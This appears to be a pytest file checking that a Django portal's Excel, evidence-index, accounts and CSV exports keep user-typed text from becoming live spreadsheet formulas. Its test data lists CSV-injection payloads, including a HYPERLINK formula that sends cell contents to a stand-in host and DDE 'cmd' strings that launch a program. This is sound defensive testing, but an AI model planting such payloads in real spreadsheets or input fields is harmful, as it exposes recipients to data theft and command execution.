"""Spreadsheet formula injection (OWASP CSV Injection, SECURITY_TESTS.md IM4): text typed by
people (evidence summary, number, issuer, names, labels, reported text) never becomes a live
formula in an exported workbook; it is shown exactly as typed, and numbers stay numbers.

Every .xlsx writer that carries user text is covered here: the Excel export, the evidence pack's
index, the accounts export and the framework template (the audit log export: tests/evidence/
test_audit.py)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from agencies.accounts_io import export_accounts_xlsx
from agencies.models import Agency, AgencyGroup, User
from dti_portal import spreadsheet
from evidence.models import EvidenceFile
from indicators.importer import export_framework_xlsx
from indicators.models import Framework, Indicator, Measure
from indicators.services import framework_import
from tests.factories import UserFactory

from .dash_helpers import build_world, put_state, recompute
from .test_exports_values import export

pytestmark = pytest.mark.django_db
D = Decimal
HOSTILE = [
    '=HYPERLINK("https://evil.example/?d="&C2,"Xem chi tiết")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def shown(text: str) -> str:
    """The text as an .xlsx reader gets it back: XML turns a bare CR into a line feed."""
    return text.replace("\r", "\n")


def assert_no_formula(wb, expected: list[str]) -> None:
    """No cell is a formula; every ``expected`` text is some cell's exact value, flagged as text."""
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    values = {c.value for c in cells}
    assert [h for h in expected if shown(h) not in values] == []
    for c in cells:
        if spreadsheet.is_formula_like(c.value):
            assert c.data_type == "s" and c.quotePrefix, (c.coordinate, c.value)


@pytest.fixture
def hostile_world():
    """Every text field that reaches an export starts with a formula character."""
    w = build_world(extra_agencies=1)
    a = w.agencies["a"]
    Agency.objects.filter(pk=a.pk).update(name=HOSTILE[0], short_name=HOSTILE[1])
    Agency.objects.filter(pk=w.agencies["b"].pk).update(name=HOSTILE[2], short_name=HOSTILE[2])
    AgencyGroup.objects.filter(code="cac-xa").update(name=HOSTILE[3])
    Indicator.objects.filter(pk=w.subs["1.1"].pk).update(name=HOSTILE[4])
    Measure.objects.filter(indicator=w.subs["1.1"], code="numerator").update(
        label=HOSTILE[5], unit="@unit"
    )
    Measure.objects.create(indicator=w.subs["1.2"], code="ghi_chu", label="Ghi chú", kind="text")
    s12 = w.submissions[("1.2", "so-nv")]
    put_state(s12, "approved", values={"done": "1", "ghi_chu": HOSTILE[6]})
    EvidenceFile.objects.filter(submission__indicator=w.subs["1.1"]).update(
        summary=HOSTILE[0], doc_number=HOSTILE[2], issuer=HOSTILE[4], original_name=HOSTILE[3]
    )
    link = EvidenceFile.objects.create(
        submission=w.submissions[("1.1", "so-tt")],
        kind=EvidenceFile.Kind.LINK,
        url="https://example.org/=1+1",
        summary="-1+1",
        doc_number="@x",
        issuer="\t=2",
        uploaded_by=w.staff["a"],
    )
    assert link.pk
    recompute(w)
    return w


def test_excel_export_writes_no_formula(hostile_world, leader):
    wb = export(leader, hostile_world, "excel")
    # Names (indicator, lead agency, coordinators, league), labels, units and reported text.
    assert_no_formula(wb, [HOSTILE[1], HOSTILE[2], HOSTILE[3], HOSTILE[4], HOSTILE[5], HOSTILE[6]])
    appendix = wb["Phụ lục"]
    row = next(r for r in appendix.iter_rows(min_row=6) if r[0].value == "1.1")
    assert row[1].value == HOSTILE[4] and row[2].value == 200 and row[2].data_type == "n"
    assert row[10].value.startswith(HOSTILE[5] + ": 80")  # the values cell, a label first
    league = [r[1].value for r in wb["Kết quả cơ quan"].iter_rows(min_row=6)]
    assert HOSTILE[1] in league  # the league lists short names


def test_evidence_pack_index_writes_no_formula(hostile_world, reviewer):
    wb = export(reviewer, hostile_world, "evidence")
    assert_no_formula(wb, [HOSTILE[0], *HOSTILE[2:5], "-1+1", "@x", "\t=2"])
    rows = list(wb["Danh mục"].iter_rows(min_row=2, values_only=True))
    first = rows[0]
    # Summary, number, issuer, original name: exactly as typed; the size stays a number.
    assert (first[9], first[6], first[8], first[5]) == (
        HOSTILE[0],
        HOSTILE[2],
        HOSTILE[4],
        HOSTILE[3],
    )
    assert isinstance(first[12], int) and first[0] == 1


def test_accounts_export_writes_no_formula(agency_a):
    Agency.objects.filter(pk=agency_a.pk).update(name=HOSTILE[2])
    agency_a.refresh_from_db()
    users = [
        UserFactory(
            username="u1",
            full_name=HOSTILE[0],
            email="=1+1@example.org",
            agency=agency_a,
            role=User.Role.AGENCY_STAFF,
        ),
        UserFactory(username="u2", full_name=HOSTILE[4], agency=None, role=User.Role.LEADER),
    ]
    wb = load_workbook(io.BytesIO(export_accounts_xlsx(users)))
    assert_no_formula(wb, [HOSTILE[0], HOSTILE[2], HOSTILE[4], "=1+1@example.org"])


def test_framework_template_writes_no_formula_and_round_trips():
    w = build_world()
    sub = w.subs["1.2"]
    Indicator.objects.filter(pk=sub.pk).update(
        name=HOSTILE[0], scoring_method=HOSTILE[2], evidence_guidance=HOSTILE[4]
    )
    Framework.objects.filter(pk=w.framework.pk).update(decision="=1+1")
    data = export_framework_xlsx(Framework.objects.get(pk=w.framework.pk))
    assert_no_formula(load_workbook(io.BytesIO(data)), [HOSTILE[0], HOSTILE[2], HOSTILE[4]])
    # Nothing was added to the text: it reads back exactly as it was.
    report = framework_import(actor=None, data=data, code="copy", year=2025)
    copy = Indicator.objects.get(framework_id=report.framework_id, code="1.2")
    assert (copy.name, copy.scoring_method, copy.evidence_guidance) == (
        HOSTILE[0],
        HOSTILE[2],
        HOSTILE[4],
    )
    assert Framework.objects.get(pk=report.framework_id).decision == "=1+1"


# --- the helper -----------------------------------------------------------------------------


@pytest.mark.parametrize("write_only", [False, True])
def test_append_row_keeps_text_as_text_and_numbers_as_numbers(write_only):
    wb = Workbook(write_only=write_only)
    ws = wb.create_sheet("x") if write_only else wb.active
    spreadsheet.append_row(ws, [*HOSTILE, "bình thường", 12, D("-3.5"), -7, None, "a\x01b"])
    buf = io.BytesIO()
    wb.save(buf)
    row = next(load_workbook(io.BytesIO(buf.getvalue())).active.iter_rows())
    assert [c.value for c in row[: len(HOSTILE)]] == [shown(h) for h in HOSTILE]
    assert all(c.data_type == "s" and c.quotePrefix for c in row[: len(HOSTILE)])
    rest = row[len(HOSTILE) :]
    assert [c.value for c in rest[:4]] == ["bình thường", 12, -3.5, -7]
    assert [c.data_type for c in rest[1:4]] == ["n", "n", "n"]
    assert not rest[0].quotePrefix
    assert rest[-1].value == "ab"  # a control character an .xlsx cannot hold is dropped


def test_write_cell_protects_a_formula_set_on_a_cell():
    wb = Workbook()
    ws = wb.active
    c = spreadsheet.write_cell(ws, 1, 1, HOSTILE[0])
    assert c.data_type == "s" and c.value == HOSTILE[0]
    assert spreadsheet.write_cell(ws, 1, 2, D("1.5")).data_type == "n"


def test_csv_values():
    row = spreadsheet.csv_row([*HOSTILE, "-12", "+3,5", "-1.234,5", "bình thường", 5, None])
    assert row[: len(HOSTILE)] == ["'" + h for h in HOSTILE]
    assert row[len(HOSTILE) :] == ["-12", "+3,5", "-1.234,5", "bình thường", 5, None]
    out = io.StringIO()
    csv.writer(out).writerow(row)
    assert not any(
        v.startswith(("=", "+", "@")) for v in next(csv.reader(io.StringIO(out.getvalue())))[:7]
    )


def test_numbers_in_exports_stay_numbers(hostile_world, leader):
    wb = export(leader, hostile_world, "excel")
    appendix = wb["Phụ lục"]
    row = next(r for r in appendix.iter_rows(min_row=6) if r[0].value == "1.2")
    assert row[2].data_type == "n" and row[2].value == 100
    assert [c.data_type for c in row[5:8]] == ["n", "n", "n"] and row[9].value == 1
